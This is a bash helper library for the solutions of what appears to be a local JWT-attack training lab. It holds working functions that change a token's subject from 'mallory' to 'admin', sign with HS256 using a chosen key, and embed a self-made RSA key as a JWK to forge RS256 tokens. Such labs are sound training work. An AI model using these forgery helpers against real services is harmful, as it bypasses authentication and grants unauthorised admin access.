# What the solutions share. LAB is the lab's address, LEARNER your name.
# Needs bash, curl and openssl.
set -euo pipefail
LAB="${LAB:-http://127.0.0.1:7878}"
LEARNER="${LEARNER:-ada}"

# The endpoint of an exercise: at EXERCISE WHAT, which is token, key.pem or whoami.
at() { printf '%s/s/%s/t/%s/%s' "$LAB" "$LEARNER" "$1" "$2"; }

# base64url without padding (RFC 7515 §2), both ways, through a pipe.
b64() { openssl base64 -A | tr '+/' '-_' | tr -d '='; }
unb64() {
    local text
    text="$(tr -- '-_' '+/')"
    while [ $((${#text} % 4)) -ne 0 ]; do text="$text="; done
    printf '%s' "$text" | openssl base64 -d -A
}

# Bytes as hexadecimal and back, through a pipe.
hex() { od -An -tx1 -v | tr -d ' \n'; }
unhex() { printf '%b' "$(sed 's/../\\x&/g')"; }

# Part N of a token, as it stands there.
part() { cut -d. -f"$1"; }

# The claims of an honest JWT, with another subject: claims TOKEN
claims() { printf '%s' "$1" | part 2 | unb64 | sed 's/"mallory"/"admin"/' | b64; }

# The tag of HS256 (RFC 7518 §3.2): hs256 INPUT KEY-IN-HEXADECIMAL
hs256() { printf '%s' "$1" | openssl dgst -sha256 -mac HMAC -macopt "hexkey:$2" -binary | b64; }

# An RSA key of one's own in the file KEY, and its public half as JWK (RFC 7517): own_rsa_key
own_rsa_key() {
    KEY="$(mktemp)"
    trap 'rm -f "$KEY"' EXIT
    openssl genrsa -out "$KEY" 2048 2>/dev/null
    local modulus
    modulus="$(openssl rsa -in "$KEY" -noout -modulus | cut -d= -f2 | unhex | b64)"
    JWK="$(printf '{"kty":"RSA","n":"%s","e":"AQAB"}' "$modulus")"
}

# The signature of RS256 by that key: rs256 INPUT
rs256() { printf '%s' "$1" | openssl dgst -sha256 -sign "$KEY" -binary | b64; }

# Sends a token: send EXERCISE TOKEN
send() { curl -s -H "Authorization: Bearer $2" "$(at "$1" whoami)"; }
